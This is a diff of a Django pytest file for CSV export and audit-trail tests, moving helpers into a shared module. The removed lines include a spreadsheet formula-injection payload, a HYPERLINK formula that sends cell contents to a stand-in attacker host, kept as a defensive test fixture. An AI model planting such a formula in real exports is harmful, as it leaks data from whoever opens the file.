@@ -2,37 +2,21 @@
 
 from __future__ import annotations
 
-import csv
-import io
-
 import pytest
 from django.urls import reverse
 
 from portal.audit.models import AuditRecord
 from portal.audit.services import Actor, record
 from portal.lib import csv_export as exports
+from tests.csv_exports import EVIL, last_export, read_csv
 from tests.factories import make_mailbox
 
 pytestmark = pytest.mark.django_db
-
-EVIL = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
 
 
 @pytest.fixture
 def mailbox(db):
     return make_mailbox("X26ABC1")
-
-
-def read_csv(response) -> list[dict[str, str]]:
-    assert response.status_code == 200
-    assert response.streaming, "exports are streamed, never built in memory"
-    text = b"".join(response.streaming_content).decode("utf-8")
-    assert text.startswith("\ufeff")
-    return list(csv.DictReader(io.StringIO(text[1:])))
-
-
-def last_export() -> AuditRecord:
-    return AuditRecord.objects.filter(action__endswith="_exported").order_by("-seq").first()
 
 
 # Audit trail
